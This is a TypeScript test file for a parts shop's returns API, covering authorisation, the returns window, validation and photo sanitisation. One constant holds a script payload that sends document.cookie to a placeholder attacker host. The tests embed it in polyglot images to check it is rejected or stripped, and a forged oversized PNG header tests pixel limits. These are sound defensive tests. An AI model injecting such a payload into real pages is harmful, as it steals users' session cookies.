import { deflateSync } from 'node:zlib';
import { count, eq } from 'drizzle-orm';
import type { FastifyInstance, LightMyRequestResponse } from 'fastify';
import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';
import { createOrder } from '../../../src/contract/checkout';
import { getOrderList } from '../../../src/contract/orders';
import { createReturn, getReturnReason, getReturnReasons } from '../../../src/contract/returns';
import { ORDER_STATUS } from '../../../src/domain/orders';
import { mailOutbox, orders, returnFiles, returns } from '../../db/schema';
import { seedAccounts } from '../../seed/accounts';
import { seedReturnReasons } from '../../seed/returns';
import { expectOk, guestForm, PARTS, PASSWORD, readyCart, shopApp, shopper, type Shopper, useCheckoutData } from '../../test/checkout';
import { signIn } from '../../test/accounts';
import { testDatabase } from '../../test/database';
import { sentTwice } from '../../test/idempotency';

useCheckoutData();
beforeAll(async () => {
  const { db } = await testDatabase();
  await seedReturnReasons(db);
  await seedAccounts(db);
});

const START = new Date('2026-03-02T10:00:00Z');
const DAY = 86_400_000;
const REASON = { doesNotFit: 1, damaged: 2, notAsDescribed: 3, wrongPart: 4, noLongerNeeded: 5 } as const;

async function clockedShop() {
  const clock = { now: START };
  const app = await shopApp({ clock: () => clock.now });
  return { app, clock };
}

/** A member (registered at checkout, so signed in) with an order of `tags`, paid unless told otherwise. */
async function memberWithOrder(app: FastifyInstance, options: { email?: string; tags?: readonly string[]; paid?: boolean } = {}) {
  const member = await shopper(app);
  for (const tag of options.tags ?? [PARTS.alternator, PARTS.starter]) await expectOk(member.call('POST', '/carts/add-item', { product: { tag } }));
  await expectOk(member.call('PATCH', '/carts/update-region-and-delivery', { region_id: 1, region_postcode: 'LS1 4AP', delivery_id: 2 }));
  const email = options.email ?? 'jo@fleetfix.co.uk';
  member.adopt(await expectOk(member.call('POST', '/carts/update-shipping', guestForm({ is_guest: false, email, first_name: 'Jo', password: PASSWORD, confirm_password: PASSWORD }))));
  const { order } = createOrder.response.parse((await expectOk(member.call('PATCH', '/carts/create-order'))).json());
  if (options.paid !== false) await setOrder(order.hash, { statusId: ORDER_STATUS.PAID, paidAt: START });
  const lines = (await orderList(member)).orders.find((listed) => listed.hash === order.hash)?.order_products ?? [];
  return { member, hash: order.hash, number: order.number, lines: lines.map((line) => line.id) };
}

/** The member's next visit: a new session (the old one has run out), then the sign-in. */
async function signInAgain(member: Shopper, email = 'jo@fleetfix.co.uk'): Promise<void> {
  member.adopt(await member.call('GET', '/app-props.json'));
  await expectOk(signIn(member, email, PASSWORD));
}

async function setOrder(hash: string, values: Partial<typeof orders.$inferInsert>): Promise<void> {
  const { db } = await testDatabase();
  await db.update(orders).set(values).where(eq(orders.hash, hash));
}

async function orderList(buyer: Shopper) {
  return getOrderList.response.parse((await expectOk(buyer.call('GET', '/orders/getList.json'))).json()).data;
}

interface Upload {
  part: string;
  name: string;
  bytes: Buffer;
  type?: string;
}

/** POST /returns/create as the return modal sends it: a multipart form, files as name[]. */
async function postReturn(buyer: Shopper, fields: Record<string, string | number>, files: readonly Upload[] = [], headers: Record<string, string> = {}): Promise<LightMyRequestResponse> {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) form.append(name, String(value));
  for (const file of files) form.append(file.part, new Blob([new Uint8Array(file.bytes)], { type: file.type ?? 'image/jpeg' }), file.name);
  const request = new Request('http://shop.test/', { method: 'POST', body: form });
  return buyer.app.inject({
    method: 'POST',
    url: '/web-api/returns/create',
    headers: { ...headers, cookie: buyer.cookie, 'x-csrf-token': buyer.csrfToken, 'content-type': request.headers.get('content-type') ?? '' },
    payload: Buffer.from(await request.arrayBuffer()),
  });
}

const jpeg = (width = 64, height = 48) => sharp({ create: { width, height, channels: 3, background: '#3366cc' } }).jpeg().toBuffer();
const photo = async (part: string, name: string): Promise<Upload> => ({ part, name, bytes: await jpeg() });

/** A 'damaged in transit' form for the line, with one photo of the part and one of the packaging. */
async function damagedForm(hash: string, line: number, extra: Record<string, string> = {}) {
  return {
    fields: { order_id: hash, order_product_id: line, return_reason_id: REASON.damaged, noticed: 'unpacking', ...extra },
    files: [await photo('part_photos[]', 'part.jpg'), await photo('packaging_photos[]', 'box.jpg')],
  };
}

async function stored() {
  const { db } = await testDatabase();
  const [returnCount] = await db.select({ n: count() }).from(returns);
  const [fileCount] = await db.select({ n: count() }).from(returnFiles);
  const mails = await db.select().from(mailOutbox);
  return { returns: returnCount?.n ?? 0, files: fileCount?.n ?? 0, returnMails: mails.filter((mail) => mail.subject.startsWith('Your return request')) };
}

async function expectNothingStored() {
  expect(await stored()).toEqual({ returns: 0, files: 0, returnMails: [] });
}

function expectFailure(response: LightMyRequestResponse, status: number) {
  expect(response.statusCode, response.body).toBe(status);
  const body = response.json() as { success: boolean; msg: string; errors?: Record<string, string[]> };
  expect(body.success).toBe(false);
  return body;
}

describe('GET /web-api/return-reasons and /return-reasons/get/{id}', () => {
  it('lists the five reasons in order, each with its form; an unknown reason is 404', async () => {
    const { app } = await clockedShop();
    const visitor = await shopper(app);
    const list = getReturnReasons.response.parse((await expectOk(visitor.call('GET', '/return-reasons'))).json());
    expect(list.return_reasons.map((reason) => reason.name)).toEqual(['Does not fit my vehicle', 'Damaged in transit', 'Not as described', 'Wrong part sent', 'No longer needed']);

    const fit = getReturnReason.response.parse((await expectOk(visitor.call('GET', `/return-reasons/get/${REASON.doesNotFit}`))).json()).details;
    expect(fit.form_fields.find((field) => field.name === 'registration')).toMatchObject({ type: 'text', required: true, option: 'registration' });
    expect(fit.form_fields.find((field) => field.name === 'old_part_number')).toMatchObject({ required: true, visible_if: { name: 'compared_old_part', value: 'yes' } });
    const damaged = getReturnReason.response.parse((await expectOk(visitor.call('GET', `/return-reasons/get/${REASON.damaged}`))).json()).details;
    expect(damaged.form_fields.filter((field) => field.type === 'images').map((field) => [field.name, field.required])).toEqual([
      ['part_photos', true],
      ['packaging_photos', true],
    ]);
    expect((await visitor.call('GET', '/return-reasons/get/99')).statusCode).toBe(404);
  });
});

describe('POST /web-api/returns/create', () => {
  it('creates a return with two photos, AWAITING_REVIEW, shown on the line in the order list, with a confirmation e-mail', async () => {
    const { app } = await clockedShop();
    const { member, hash, number, lines } = await memberWithOrder(app);
    const [line, otherLine] = lines as [number, number];
    const { fields, files } = await damagedForm(hash, line, { courier_note: 'not asked: hidden unless noticed on delivery' });

    const response = await postReturn(member, fields, files);
    expect(response.statusCode, response.body).toBe(200);
    const answer = createReturn.response.parse(response.json());
    expect(answer.return.status).toBe('AWAITING_REVIEW');
    expect(answer.msg).toContain('received your return request');

    const { db } = await testDatabase();
    const [row] = await db.select().from(returns);
    const photos = await db.select().from(returnFiles).orderBy(returnFiles.id);
    expect(row).toMatchObject({ id: answer.return.id, orderProductId: line, status: 'AWAITING_REVIEW', returnReasonId: REASON.damaged });
    expect(row?.answers).toEqual({ noticed: 'unpacking', part_photos: [photos[0]?.id], packaging_photos: [photos[1]?.id] });
    expect(photos.map((file) => [file.field, file.contentType, file.width, file.height])).toEqual([
      ['part_photos', 'image/jpeg', 64, 48],
      ['packaging_photos', 'image/jpeg', 64, 48],
    ]);

    const listed = (await orderList(member)).orders.find((order) => order.hash === hash)?.order_products;
    expect(listed?.find((item) => item.id === line)).toMatchObject({ has_return: true, return: { id: answer.return.id, status: 'AWAITING_REVIEW' } });
    expect(listed?.find((item) => item.id === otherLine)).toMatchObject({ has_return: false, return: null });

    const { returnMails } = await stored();
    expect(returnMails).toHaveLength(1);
    expect(returnMails[0]).toMatchObject({ to: 'jo@fleetfix.co.uk', subject: `Your return request for order ${number}` });
    for (const text of ['Hello Jo', 'Reason: Damaged in transit', 'When did you notice the damage?: When I unpacked it', 'Photos: 2', 'Status: Awaiting Review', 'What happens next']) {
      expect(returnMails[0]?.text).toContain(text);
    }
    expect(returnMails[0]?.text).not.toContain('not asked');
  });

  it('serves a photo to the return’s member only: private, as JPEG; 404 to another member, 401 signed out', async () => {
    const { app } = await clockedShop();
    const { member, hash, lines } = await memberWithOrder(app);
    const { fields, files } = await damagedForm(hash, lines[0] as number);
    const created = createReturn.response.parse((await expectOk(postReturn(member, fields, files))).json()).return;
    const { db } = await testDatabase();
    const [file] = await db.select().from(returnFiles).orderBy(returnFiles.id);
    const url = `/returns/${created.id}/files/${file?.id}`;

    const own = await member.call('GET', url);
    expect(own.statusCode).toBe(200);
    expect(own.headers['content-type']).toBe('image/jpeg');
    expect(own.headers['cache-control']).toContain('private');
    expect((await sharp(own.rawPayload).metadata()).format).toBe('jpeg');

    const { member: other } = await memberWithOrder(app, { email: 'sam@other-garage.co.uk', tags: [PARTS.mirror] });
    expect((await other.call('GET', url)).statusCode).toBe(404);
    expect((await member.call('GET', `/returns/${created.id}/files/${(file?.id ?? 0) + 99}`)).statusCode).toBe(404);
    expect((await (await shopper(app)).call('GET', url)).statusCode).toBe(401);
  });

  it('answers a repeat with the same Idempotency-Key (the outbox replaying a return started offline) the first answer: one return, its photos and one mail; another member 404, signed out 401', async () => {
    const { app } = await clockedShop();
    const { member, hash, lines } = await memberWithOrder(app);
    const { member: other } = await memberWithOrder(app, { email: 'sam@other-garage.co.uk', tags: [PARTS.mirror] });
    const form = await damagedForm(hash, lines[0] ?? 0);
    const keyed = (key: string) => ({ 'idempotency-key': key });

    await sentTwice((key) => postReturn(member, form.fields, form.files, keyed(key)), 'outbox-key-return-1');
    expect(await stored()).toMatchObject({ returns: 1, files: 2, returnMails: [expect.anything()] });
    // The same key from another member's session is not a replay of the member's answer: their order is not his.
    expectFailure(await postReturn(other, form.fields, form.files, keyed('outbox-key-return-1')), 404);
    const visitor = await shopper(app);
    expectFailure(await postReturn(visitor, form.fields, form.files, keyed('outbox-key-return-2')), 401);
    expect(await stored()).toMatchObject({ returns: 1, files: 2 });
  });

  it("refuses another member's order and a guest's order with 404, and a signed-out visitor with 401, storing nothing", async () => {
    const { app } = await clockedShop();
    const { hash, lines } = await memberWithOrder(app);
    const { member: other } = await memberWithOrder(app, { email: 'sam@other-garage.co.uk', tags: [PARTS.mirror] });
    const form = await damagedForm(hash, lines[0] as number);
    expectFailure(await postReturn(other, form.fields, form.files), 404);

    // A guest's paid order: the guest's own session is not a member's (401), a member is not its owner (404).
    const guest = await shopper(app);
    await readyCart(guest, [PARTS.headlight], { email: 'guest@example.com' });
    const guestOrder = createOrder.response.parse((await expectOk(guest.call('PATCH', '/carts/create-order'))).json()).order;
    await setOrder(guestOrder.hash, { statusId: ORDER_STATUS.PAID, paidAt: START });
    const { db } = await testDatabase();
    const [guestRow] = await db.select().from(orders).where(eq(orders.hash, guestOrder.hash));
    const guestLine = (await db.query.orderProducts.findFirst({ where: (table, { eq: equals }) => equals(table.orderId, guestRow?.id ?? 0) }))?.id ?? 0;
    const guestForm = await damagedForm(guestOrder.hash, guestLine);
    expect(expectFailure(await postReturn(guest, guestForm.fields, guestForm.files), 401).msg).toBe('Please sign in to your account to request a return.');
    expectFailure(await postReturn(other, guestForm.fields, guestForm.files), 404);

    const signedOut = await shopper(app);
    expectFailure(await postReturn(signedOut, form.fields, form.files), 401);
    await expectNothingStored();
  });

  it('refuses a line of another order with 404', async () => {
    const { app } = await clockedShop();
    const { member, hash } = await memberWithOrder(app);
    const { lines: otherLines } = await memberWithOrder(app, { email: 'sam@other-garage.co.uk', tags: [PARTS.mirror] });
    const form = await damagedForm(hash, otherLines[0] as number);
    expectFailure(await postReturn(member, form.fields, form.files), 404);
    await expectNothingStored();
  });

  it('refuses an unpaid and a refunded order with 409 and a clear message', async () => {
    const { app } = await clockedShop();
    const { member, hash, lines } = await memberWithOrder(app, { paid: false });
    const form = await damagedForm(hash, lines[0] as number);
    expect(expectFailure(await postReturn(member, form.fields, form.files), 409).msg).toBe('This order has not been paid, so its parts cannot be returned.');
    await setOrder(hash, { statusId: ORDER_STATUS.REFUNDED, paidAt: START });
    expect(expectFailure(await postReturn(member, form.fields, form.files), 409).msg).toBe('This order has been refunded, so its parts cannot be returned.');
    await expectNothingStored();
  });

  it('accepts a return on the window’s last day and refuses it the day after with 409 naming the date', async () => {
    const { app, clock } = await clockedShop();
    const { member, hash, lines } = await memberWithOrder(app);
    const form = await damagedForm(hash, lines[0] as number);
    // Paid 2 March 2026 10:00 (GMT); 30 days: the last day is 1 April 2026 (BST from 29 March).
    // A month on, the member signs in again (sessions follow the shop's clock too).
    clock.now = new Date(START.getTime() + 31 * DAY);
    await signInAgain(member);
    expect(expectFailure(await postReturn(member, form.fields, form.files), 409).msg).toBe('The returns window for this order closed on 1 April 2026.');
    await expectNothingStored();
    clock.now = new Date('2026-04-01T22:59:00Z');
    await signInAgain(member);
    expect((await postReturn(member, form.fields, form.files)).statusCode).toBe(200);
  });

  it('allows one open return per line (409 for a second); a rejected return frees the line', async () => {
    const { app } = await clockedShop();
    const { member, hash, lines } = await memberWithOrder(app);
    const form = await damagedForm(hash, lines[0] as number);
    await expectOk(postReturn(member, form.fields, form.files));
    expect(expectFailure(await postReturn(member, form.fields, form.files), 409).msg).toBe('A return has already been requested for this part (Awaiting Review).');
    expect(await stored()).toMatchObject({ returns: 1, files: 2 });

    const { db } = await testDatabase();
    await db.update(returns).set({ status: 'REJECTED' });
    const again = createReturn.response.parse((await expectOk(postReturn(member, form.fields, form.files))).json()).return;
    const listed = (await orderList(member)).orders[0]?.order_products.find((line) => line.id === lines[0]);
    expect(listed?.return).toEqual({ id: again.id, status: 'AWAITING_REVIEW' });
  });

  it('makes one return of three sent for a line at the same moment (409 for the others)', async () => {
    const { app } = await clockedShop();
    const { member, hash, lines } = await memberWithOrder(app);
    const form = await damagedForm(hash, lines[0] as number);
    const answers = await Promise.all([postReturn(member, form.fields, form.files), postReturn(member, form.fields, form.files), postReturn(member, form.fields, form.files)]);
    expect(answers.map((answer) => answer.statusCode).sort()).toEqual([200, 409, 409]);
    expect(await stored()).toMatchObject({ returns: 1, files: 2 });
    expect((await stored()).returnMails).toHaveLength(1);
  });

  it("names each missing visible required field with 'required field' (422), the reason when none is given, and stores nothing", async () => {
    const { app } = await clockedShop();
    const { member, hash, lines } = await memberWithOrder(app);
    const base = { order_id: hash, order_product_id: lines[0] as number };

    const noReason = expectFailure(await postReturn(member, base), 422);
    expect(noReason.errors).toEqual({ return_reason_id: ['Please choose the reason for your return.'] });

    const fit = expectFailure(await postReturn(member, { ...base, return_reason_id: REASON.doesNotFit, registration: '  ', compared_old_part: 'yes' }), 422);
    expect(fit.errors).toEqual({ registration: ['required field'], not_fitting: ['required field'], old_part_number: ['required field'] });

    const damaged = expectFailure(await postReturn(member, { ...base, return_reason_id: REASON.damaged, noticed: 'unpacking' }, [await photo('part_photos[]', 'part.jpg')]), 422);
    expect(damaged.errors).toEqual({ packaging_photos: ['required field'] });
    await expectNothingStored();

    // Filled in: the registration is kept as the shop keys it, the old part number upper-cased.
    await expectOk(postReturn(member, { ...base, return_reason_id: REASON.doesNotFit, registration: 'ab12 cde', not_fitting: 'The mounting bracket is 2 cm out', compared_old_part: 'yes', old_part_number: ' 8v21-13k ' }));
    const { db } = await testDatabase();
    const [row] = await db.select().from(returns);
    expect(row?.answers).toEqual({ registration: 'AB12CDE', not_fitting: 'The mounting bracket is 2 cm out', compared_old_part: 'yes', old_part_number: '8V21-13K' });
  });

  it('refuses a body that is not multipart with 422', async () => {
    const { app } = await clockedShop();
    const { member, hash, lines } = await memberWithOrder(app);
    const response = await member.call('POST', '/returns/create', { order_id: hash, order_product_id: lines[0], return_reason_id: REASON.noLongerNeeded });
    expect(expectFailure(response, 422).msg).toContain('multipart/form-data');
    await expectNothingStored();
  });
});

/** A PNG of any declared size with one tiny compressed row: its header alone says 20,000 × 20,000. */
function pngWithSize(width: number, height: number): Buffer {
  const table = Array.from({ length: 256 }, (_, n) => {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    return c >>> 0;
  });
  const crc = (data: Buffer) => {
    let c = 0xffffffff;
    for (const byte of data) c = (table[(c ^ byte) & 0xff] ?? 0) ^ (c >>> 8);
    return (c ^ 0xffffffff) >>> 0;
  };
  const chunk = (type: string, data: Buffer) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const check = Buffer.alloc(4);
    check.writeUInt32BE(crc(body));
    return Buffer.concat([length, body, check]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 1; // bit depth 1, greyscale
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', header), chunk('IDAT', deflateSync(Buffer.alloc(64))), chunk('IEND', Buffer.alloc(0))]);
}

const SCRIPT = '<script>fetch("https://evil.example/?c="+document.cookie)</script>';

describe('POST /web-api/returns/create: photos', () => {
  async function refused(files: readonly Upload[], reason: number = REASON.notAsDescribed) {
    const { app } = await clockedShop();
    const { member, hash, lines } = await memberWithOrder(app);
    const body = expectFailure(await postReturn(member, { order_id: hash, order_product_id: lines[0] as number, return_reason_id: reason, difference: 'condition' }, files), 422);
    await expectNothingStored();
    return body;
  }

  it('refuses a PNG polyglot carrying a script after IEND, naming the file', async () => {
    const png = await sharp({ create: { width: 40, height: 30, channels: 3, background: '#cc3333' } }).png().toBuffer();
    const body = await refused([await photo('photos[]', 'front.jpg'), { part: 'photos[]', name: 'innocent.png', bytes: Buffer.concat([png, Buffer.from(SCRIPT)]), type: 'image/png' }]);
    expect(body.errors).toEqual({ photos: ['innocent.png carries other data after the end of the image, so it cannot be accepted.'] });
  });

  it('refuses a 20,000 × 20,000 pixel image without decoding it, naming the file', async () => {
    const body = await refused([{ part: 'photos[]', name: 'huge.png', bytes: pngWithSize(20_000, 20_000), type: 'image/png' }]);
    expect(body.errors).toEqual({ photos: ['huge.png has too many pixels: at most 40 megapixels.'] });
  });

  it('refuses a text file named .jpg (declared image/jpeg) and a HEIC photo, naming each', async () => {
    const heic = Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from('ftypheic', 'latin1'), Buffer.alloc(64)]);
    const body = await refused([
      { part: 'photos[]', name: 'notes.jpg', bytes: Buffer.from('This is not a photo, just some text.\n'), type: 'image/jpeg' },
      { part: 'photos[]', name: 'IMG_0042.HEIC', bytes: heic, type: 'image/heic' },
    ]);
    expect(body.errors?.photos).toEqual([
      'notes.jpg is not a JPEG, PNG or WebP photo.',
      'IMG_0042.HEIC is a HEIC photo, which we cannot accept. Please send it as a JPEG (on an iPhone: Settings › Camera › Formats › Most Compatible).',
    ]);
  });

  it('refuses 7 photos, naming the seventh', async () => {
    const files = await Promise.all(Array.from({ length: 7 }, (_, i) => photo('photos[]', `photo-${i + 1}.jpg`)));
    const body = await refused(files);
    expect(body.errors).toEqual({ photos: ['At most 6 photos can be sent with a return; photo-7.jpg is one too many.'] });
  });

  it('refuses a 12 MB file with 422 (not 413), naming it', async () => {
    const big = Buffer.concat([await jpeg(), Buffer.alloc(12 * 1024 * 1024)]);
    const body = await refused([{ part: 'photos[]', name: 'big.jpg', bytes: big }]);
    expect(body.errors).toEqual({ photos: ['big.jpg is larger than 10 MB.'] });
  });

  it('refuses a photo for a question the form does not ask, and a second photo for a one-photo field', async () => {
    const { app } = await clockedShop();
    const { member, hash, lines } = await memberWithOrder(app);
    const fields = { order_id: hash, order_product_id: lines[0] as number, return_reason_id: REASON.wrongPart, received: 'A starter motor' };
    const body = expectFailure(await postReturn(member, fields, [await photo('label_photo[]', 'one.jpg'), await photo('label_photo[]', 'two.jpg'), await photo('selfie[]', 'me.jpg')]), 422);
    expect(body.errors).toEqual({ label_photo: ['Only one photo can be sent here; two.jpg is one too many.'], selfie: ['me.jpg was sent for a question this form does not ask.'] });
    await expectNothingStored();
  });

  it('stores a JPEG with GPS data without any metadata, turned upright, and a JPEG’s trailing script not at all', async () => {
    const { app } = await clockedShop();
    const { member, hash, lines } = await memberWithOrder(app);
    // 60 × 40 stored sideways (EXIF orientation 6: turn 90° clockwise to view), with a location.
    const located = await sharp({ create: { width: 60, height: 40, channels: 3, background: '#228844' } })
      .jpeg()
      .withExif({
        IFD0: { Make: 'Acme', Model: 'Phone 9' },
        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 2600/100', GPSLongitudeRef: 'W', GPSLongitude: '0/1 7/1 3900/100' },
      })
      .withMetadata({ orientation: 6 })
      .toBuffer();
    const before = await sharp(located).metadata();
    // The GPS IFD pointer (tag 0x8825, little-endian as sharp writes it) and the camera's make.
    expect(before.exif?.includes(Buffer.from([0x25, 0x88]))).toBe(true);
    expect(before.exif?.includes(Buffer.from('Acme'))).toBe(true);
    expect(before.orientation).toBe(6);
    const withScript = Buffer.concat([await jpeg(), Buffer.from(SCRIPT)]);

    await expectOk(
      postReturn(member, { order_id: hash, order_product_id: lines[0] as number, return_reason_id: REASON.notAsDescribed, difference: 'colour' }, [
        { part: 'photos[]', name: 'location.jpg', bytes: located },
        { part: 'photos[]', name: 'polyglot.jpg', bytes: withScript },
      ]),
    );
    const { db } = await testDatabase();
    const files = await db.select().from(returnFiles).orderBy(returnFiles.id);
    const [first, second] = files;
    if (!first || !second) throw new Error('the photos were not stored');
    const meta = await sharp(first.data).metadata();
    expect(meta.exif).toBeUndefined();
    expect(meta.xmp).toBeUndefined();
    expect(meta.icc).toBeUndefined();
    expect(meta.orientation).toBeUndefined();
    expect(first.data.includes(Buffer.from('Exif'))).toBe(false);
    expect(first.data.includes(Buffer.from('Acme'))).toBe(false);
    expect([meta.width, meta.height, first.width, first.height]).toEqual([40, 60, 40, 60]);
    expect(second.data.includes(Buffer.from('script'))).toBe(false);
    expect((await sharp(second.data).metadata()).format).toBe('jpeg');
  });
});

describe('a deleted account’s returns', () => {
  it('lose their photos and the member’s own words, and keep the return and its choices', async () => {
    const { app } = await clockedShop();
    const { member, hash, lines } = await memberWithOrder(app);
    const fields = { order_id: hash, order_product_id: lines[0] ?? 0, return_reason_id: REASON.doesNotFit, registration: 'ab12 cde', not_fitting: 'Jo Bloggs, 4 Elm Road: the bracket is 2 cm out', compared_old_part: 'yes', old_part_number: '8v21-13k' };
    const created = createReturn.response.parse((await expectOk(postReturn(member, fields, [await photo('photos[]', 'part.jpg')]))).json()).return;
    expect((await stored()).files).toBe(1);

    const reasons = (await expectOk(member.call('GET', '/reason-for-deletions/get-list'))).json().data as Record<string, string>;
    await expectOk(member.call('POST', '/members/delete-account', { reason_for_deletion_id: Object.keys(reasons)[0] }));

    expect((await stored()).files).toBe(0);
    const { db } = await testDatabase();
    const [row] = await db.select().from(returns).where(eq(returns.id, created.id));
    expect(row).toMatchObject({ status: 'AWAITING_REVIEW', answers: { compared_old_part: 'yes' } });
  });
});
